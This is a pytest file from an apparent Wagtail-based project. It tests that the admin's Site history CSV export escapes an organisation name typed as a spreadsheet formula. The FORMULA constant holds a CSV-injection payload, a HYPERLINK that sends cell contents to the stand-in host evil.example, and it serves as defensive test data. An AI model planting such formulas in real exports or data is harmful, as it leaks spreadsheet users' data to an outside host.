"""The Wagtail admin's own spreadsheet exports neutralise formulas as every Rebond export does.

Wagtail's reports (Site history, Locked pages, Aging pages, workflows) and any listing given `list_export` write
CSV through `wagtail.admin.views.mixins.SpreadsheetExportMixin`, which writes each text as it is. The Site
history names each object as it was called: an organisation a donor registered as « =HYPERLINK(…) » reaches the
Coordinator who exports the history and opens it in Excel or LibreOffice as a formula (OWASP, « CSV Injection »).
The log entry is written by Wagtail's `log()`, the call its admin makes on each edit; the export is read with the
csv module as a spreadsheet would split it.
"""

import csv
import io

import pytest
from wagtail.log_actions import log

from tests.factories.accounts import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Voir le reçu")'


def exported_rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def test_the_site_history_export_writes_a_name_typed_as_a_formula_as_text(client):
    staff = UserFactory(is_staff=True, is_superuser=True)
    organisation = OrganisationFactory(donor=True, name=FORMULA)
    log(instance=organisation, action="wagtail.edit", user=staff)
    client.force_login(staff)

    rows = exported_rows(client, "/admin/reports/site-history/?export=csv")

    names = [row[1] for row in rows[1:]]
    assert f"'{FORMULA}" in names, names
    assert FORMULA not in names
